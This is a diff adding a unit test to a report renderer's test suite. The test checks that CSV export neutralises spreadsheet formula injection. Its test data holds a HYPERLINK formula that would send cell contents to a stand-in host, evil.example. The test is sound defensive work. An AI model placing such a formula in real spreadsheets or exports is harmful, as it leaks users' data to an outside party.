@@ -16,6 +16,16 @@ describe("renderers", () => {
   const model = fixtureModel({ status: "final" });
   const totals = model.content.totals;
 
+  it("CSV: a tag value that a spreadsheet would run as a formula is written as text", async () => {
+    const hostile = fixtureModel({ status: "final" });
+    const tags = hostile.content.breakdowns.find((b) => b.dimension.startsWith("tag:"))!;
+    tags.rows[0]!.label = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const csv = (await renderReport(hostile, "csv")).body.toString("utf8");
+    const cells = parseCsv(csv).flat();
+    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
+    expect(cells.filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
+  });
+
   it("CSV: one tidy table with the documented columns, numbers as plain decimals", async () => {
     const csv = (await renderReport(model, "csv")).body.toString("utf8");
     const [header, ...rows] = parseCsv(csv);
